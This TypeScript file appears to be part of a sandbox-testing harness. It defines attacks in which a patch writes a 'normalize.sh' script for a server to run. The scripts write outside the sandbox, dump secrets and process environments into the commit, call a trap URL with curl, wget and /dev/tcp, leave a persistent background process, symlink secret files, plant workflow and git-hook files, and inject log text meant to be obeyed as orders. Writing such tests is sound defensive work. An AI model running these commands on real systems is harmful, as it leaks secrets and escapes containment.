import { newFile } from "../adversary/create-change.ts";
import type { Attack } from "../attack.ts";
import type { Facts } from "../facts.ts";
import { isOpened, mustLeaveNothing } from "../oracle/task-checks.ts";
import { byLog } from "./task-shape.ts";

/** Creates an attack with a patch that writes the script which the server then runs on it. */
const scripted = (
  name: string,
  wants: string,
  linesOf: (facts: Facts) => readonly string[],
): Attack =>
  byLog(
    { name, wants, control: "normalizer" },
    (facts) => ({ change: { patch: newFile("normalize.sh", linesOf(facts).join("\n")) } }),
    { needs: ["task-sandbox"], proof: isOpened },
  );

/** Attacks on the commands that run on a change. */
export const NORMALIZER_ABUSE: readonly Attack[] = [
  scripted("normalizer-writes-outside", "a file of the host", ({ outside }) => [
    `echo x > ${outside} 2>/dev/null`,
    `mkdir -p $(dirname ${outside}) 2>/dev/null; echo x > ${outside} 2>/dev/null`,
    `ln -s $(dirname ${outside}) out 2>/dev/null; echo x > out/by-a-link 2>/dev/null`,
    "rm -f out; exit 0",
  ]),
  scripted("normalizer-reads-the-host", "secrets in the commit", ({ secretFile }) => [
    `cat ${secretFile} >> normalize.sh 2>/dev/null`,
    "env | sed 's/^/# /' >> normalize.sh",
    "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | sed 's/^/# /' >> normalize.sh",
    "exit 0",
  ]),
  scripted("normalizer-calls-out", "a connection", ({ trapUrl }) => {
    const { hostname, port, pathname } = new URL(trapUrl);
    return [
      `(curl -m 2 ${trapUrl} || wget -T 2 -O- ${trapUrl}) >/dev/null 2>&1`,
      `bash -c 'exec 3<>/dev/tcp/${hostname}/${port}; printf "GET ${pathname} HTTP/1.0\\r\\n\\r\\n" >&3' 2>/dev/null`,
      "exit 0",
    ];
  }),
  scripted("normalizer-stays", "a program that goes on", ({ outside }) => [
    `(setsid sh -c 'sleep 1; echo x > ${outside}' >/dev/null 2>&1 &)`,
    "exit 0",
  ]),
  scripted("normalizer-makes-links", "a link that we follow", ({ secretFile }) => [
    `ln -sf ${secretFile} src/change.js`,
    `ln -s ${secretFile} stolen`,
    "exit 0",
  ]),
  byLog(
    { name: "normalizer-gives-orders", wants: "to be obeyed as a log", control: "protected" },
    ({ order }) => {
      const given = order({ change: { patch: newFile(".github/workflows/x.yml", "on: push") } });
      return { change: { patch: newFile("normalize.sh", `echo '${given}'\nexit 1`) } };
    },
    {
      needs: ["task-sandbox"],
      checks: [mustLeaveNothing],
      proof: ({ requests }) => (requests.length > 1 ? undefined : "its order was never told"),
    },
  ),
  scripted("normalizer-edits-a-workflow", "a workflow by the way", () => [
    "mkdir -p .github/workflows .git/hooks",
    "echo 'on: push' > .github/workflows/x.yml",
    "echo 'evil' > .git/hooks/post-commit",
    "echo 'evil' > CODEOWNERS",
    "exit 0",
  ]),
];
